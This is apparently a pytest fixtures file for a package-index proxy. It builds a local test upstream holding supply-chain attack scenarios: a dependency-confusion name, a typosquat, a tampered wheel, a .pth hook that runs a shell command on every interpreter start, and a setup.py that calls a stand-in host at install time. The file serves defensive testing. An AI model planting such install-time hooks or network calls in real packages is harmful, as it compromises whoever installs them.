"""Fixtures: a pypiserver upstream holding the issue's scenarios (behind a loopback proxy),
and an index server on loopback over a fresh store. Nothing reaches the internet."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from corpus.servers import run_uvicorn
from index.support import OLD, Proxy, sdist, start_pypiserver, wheel
from mlwarden.index.app import IndexSettings, create_index_app
from mlwarden.index.policy import Policy
from mlwarden.index.service import IndexService
from mlwarden.registry.server import make_config
from mlwarden.store import Store

PTH = "import sys; sys.path.insert(0, '/opt/pthpkg/plugins')\n"  # harmless, yet it runs
PTH_EVIL = "import os; os.system('echo owned > /tmp/mlwarden-pth-canary')\n"
NET_SETUP = ("import urllib.request\nfrom setuptools import setup\n"
             "urllib.request.urlopen('http://203.0.113.9/collect')\n"
             "setup(name='netsdist', version='1.0')\n")


def build_upstream(root: Path) -> None:
    # An internal name published publicly, at a higher version than the internal one.
    wheel(root, "acme-utils", "9.0", mtime=OLD)
    wheel(root, "acme-secret", "1.0", mtime=OLD)
    # A wheel with a .pth hook that runs at every interpreter start.
    wheel(root, "pthpkg", "1.0", files={"pthpkg/__init__.py": "", "pthpkg.pth": PTH},
          mtime=OLD)
    # A .pth hook that runs a command at every interpreter start.
    wheel(root, "pthevil", "1.0", files={"pthevil/__init__.py": "", "pthevil.pth": PTH_EVIL},
          mtime=OLD)
    # An sdist whose setup.py calls the network.
    sdist(root, "netsdist", "1.0", {"setup.py": NET_SETUP}, mtime=OLD)
    # A typosquat of a popular name.
    wheel(root, "reqeusts", "2.31.0", mtime=OLD)
    # One release old enough, one uploaded just now.
    wheel(root, "freshpkg", "1.0", mtime=OLD)
    wheel(root, "freshpkg", "2.0", mtime=time.time())
    # A file the proxy alters on the way (its bytes no longer match the published hash).
    wheel(root, "tampered", "1.0", mtime=OLD)
    # A small real dependency tree.
    wheel(root, "app", "1.0", requires=["liba>=1", "libb", "libd[fast]; python_version>='3'"],
          mtime=OLD)
    wheel(root, "liba", "1.0", requires=["libc<2"], requires_python=">=3.8", mtime=OLD)
    wheel(root, "libb", "1.0", mtime=OLD)
    wheel(root, "libc", "1.0", mtime=OLD)
    wheel(root, "libc", "2.0", mtime=OLD)
    wheel(root, "libd", "1.0", requires=["libb>=1; extra == 'fast'"], mtime=OLD)


# Every store configuration the index must work on. Each test that takes ``store_config``
# (``make_index`` does) runs once per entry; every ``Store.open`` in it, and in every process
# it starts, picks the configuration up from MLWARDEN_DB / MLWARDEN_BLOBS.
STORE_CONFIGS = ["fs-sqlite", "fs-postgres"]


@pytest.fixture(params=STORE_CONFIGS)
def store_config(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.delenv("MLWARDEN_DB", raising=False)
    monkeypatch.delenv("MLWARDEN_BLOBS", raising=False)
    _blobs, _, db = str(request.param).partition("-")
    if db == "postgres":
        monkeypatch.setenv("MLWARDEN_DB", request.getfixturevalue("postgres_url"))
    return str(request.param)


@dataclass
class Upstream:
    root: Path
    proxy: Proxy
    port: int

    @property
    def url(self) -> str:
        return self.proxy.url


@pytest.fixture(scope="module")
def upstream(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Upstream]:
    root = tmp_path_factory.mktemp("upstream")
    build_upstream(root)
    try:
        proc, port = start_pypiserver(root)
    except RuntimeError as exc:
        pytest.skip(str(exc))
    proxy = Proxy(port, tamper={"tampered-1.0-py3-none-any.whl"}).start()
    try:
        yield Upstream(root, proxy, port)
    finally:
        proxy.stop()
        proc.terminate()
        proc.wait(timeout=10)


def policy_text(upstream_url: str, extra: str = "") -> str:
    return (f'[upstream]\nurl = "{upstream_url}"\ncache-ttl = "0"\ntimeout = 20\n\n'
            '[internal]\nnames = ["acme-*"]\n\n'
            '[releases]\nminimum-age = "7d"\n' + extra)


@dataclass
class Index:
    url: str  # .../simple/
    base: str
    store_path: Path
    policy_path: Path
    store: Store
    service: IndexService
    app: object
    server: object
    thread: object
    read_token: str
    write_token: str
    upstream_url: str

    def set_policy(self, extra_policy: str) -> None:
        """Rewrite the policy file and apply it, as a restart of `serve` would."""
        self.policy_path.write_text(policy_text(self.upstream_url, extra_policy))
        self.service.policy = Policy.load(self.policy_path)
        self.service.revalidate()

    def flush(self) -> None:
        self.app.state.audit.flush()  # type: ignore[attr-defined]

    def cli(self, *args: str) -> list[str]:
        return [*args, "--store", str(self.store_path), "--policy", str(self.policy_path)]

    def stop(self) -> None:
        self.server.should_exit = True  # type: ignore[attr-defined]
        self.thread.join(15)  # type: ignore[attr-defined]
        self.service.close()
        self.store.close()


@pytest.fixture
def make_index(tmp_path: Path, upstream: Upstream,
               store_config: str) -> Iterator[Callable[..., Index]]:
    started: list[Index] = []

    def factory(extra_policy: str = "", allow_anonymous: bool = False,
                name: str = "store") -> Index:
        store_path = tmp_path / name
        policy_path = tmp_path / f"{name}-policy.toml"
        policy_path.write_text(policy_text(upstream.url, extra_policy))
        store = Store.open(store_path)
        _, read = store.create_token("ci-reader", ["pkg:*:read"])
        _, write = store.create_token("acme-publisher", ["pkg:acme-*:write"])
        service = IndexService(store, Policy.load(policy_path))
        app = create_index_app(service, IndexSettings(allow_anonymous=allow_anonymous))
        server, thread = run_uvicorn(make_config(app, "127.0.0.1", 0, log_level="warning"),
                                     "index")
        port = server.servers[0].sockets[0].getsockname()[1]  # bound by the kernel: no race
        base = f"http://127.0.0.1:{port}"
        idx = Index(f"{base}/simple/", base, store_path, policy_path, store, service, app,
                    server, thread, read, write, upstream.url)
        started.append(idx)
        return idx

    yield factory
    for idx in started:
        idx.stop()
